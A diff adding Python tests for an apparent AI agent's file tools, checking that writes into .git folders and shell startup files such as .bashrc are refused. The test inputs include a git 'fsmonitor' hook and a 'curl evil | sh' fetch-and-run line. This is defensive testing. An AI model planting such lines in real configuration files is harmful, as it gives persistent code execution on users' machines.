@@ -171,6 +171,47 @@ def test_patch_replaces_exact_text_once_unless_told(ctx):
     assert "write_file" in run(ctx, "patch", path="new.md", old_string="a", new_string="b")["error"]
 
 
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git/config",
+        ".git/hooks/pre-commit",
+        "sub/.git/HEAD",
+        ".git",
+        "vendor/lib/.git",
+        ".GIT/config",
+    ],
+)
+def test_writes_into_git_folders_and_onto_git_files_are_refused(ctx, path):
+    """Git runs programs its config names, and a ``.git`` file points git elsewhere."""
+    result = run(ctx, "write_file", path=path, content="[core]\n\tfsmonitor = touch x\n")
+    assert "refused" in result["error"] and ".git" in result["error"]
+    assert not (ctx.workspace / path).exists()
+
+
+def test_patch_into_a_git_folder_is_refused(ctx):
+    config = ctx.workspace / ".git" / "config"
+    config.parent.mkdir()
+    config.write_text("[core]\n\tbare = false\n", encoding="utf-8")
+    result = run(ctx, "patch", path=".git/config", old_string="bare = false", new_string="x")
+    assert "refused" in result["error"]
+    assert config.read_text() == "[core]\n\tbare = false\n"
+    # Reading stays possible (a model may look at a repository's layout).
+    assert "bare = false" in run(ctx, "read_file", path=".git/config")["content"]
+
+
+def test_shell_startup_files_in_the_home_folder_are_not_writable(tmp_path, monkeypatch):
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    ctx = ToolContext(workspace=home)
+    for name in (".bashrc", ".profile", ".zshrc", ".gitconfig", ".config/git/config"):
+        result = run(ctx, "write_file", path=name, content="curl evil | sh\n")
+        assert "runs programs" in result["error"], name
+        assert not (home / name).exists()
+    assert run(ctx, "write_file", path="project/.bashrc", content="x")["created"] is True
+
+
 # -- terminal toolset ------------------------------------------------------------------
 
 
